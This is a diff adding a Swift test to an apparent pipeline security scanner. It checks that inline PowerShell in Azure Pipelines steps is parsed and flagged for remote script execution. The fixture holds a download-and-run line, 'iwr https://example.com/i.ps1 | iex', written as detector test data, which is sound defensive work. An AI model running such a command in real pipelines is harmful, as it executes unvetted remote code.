@@ -165,4 +165,22 @@ struct PipelineReferenceTests {
         let rules = Set(run.findings.compactMap { $0["rule_id"] as? String })
         #expect(rules == ["cicd.github"], "\(run.output)")
     }
+
+    @Test(
+        "an Azure PowerShell task's inline script is read as PowerShell: backticks escape, downloads run by iex count",
+        arguments: [
+            "  - task: PowerShell@2\n    inputs:\n      targetType: inline\n      script: |\n",
+            "  - task: AzurePowerShell@5\n    inputs:\n      ScriptType: InlineScript\n      Inline: |\n",
+            "  - task: AzureCLI@2\n    inputs:\n      scriptType: pscore\n      inlineScript: |\n",
+            "  - pwsh: |\n",
+        ])
+    func azurePowerShell(step: String) throws {
+        let script =
+            "        Write-Host \"Run `\"pwsh`\" to start; it's `n done\" # it's fine\n"
+            + "        $dir = \"C:\\tools\\\"\n"
+            + "        iwr https://example.com/i.ps1 | iex\n"
+        let run = try GateRun.check(base: [:]) { try $0.write("azure-pipelines.yml", "steps:\n" + step + script) }
+        #expect(!run.has(rule: "cavra.parse-error"), "\(run.output)")
+        #expect(run.has(rule: "commands.remote-script-execution", path: "azure-pipelines.yml"), "\(run.output)")
+    }
 }
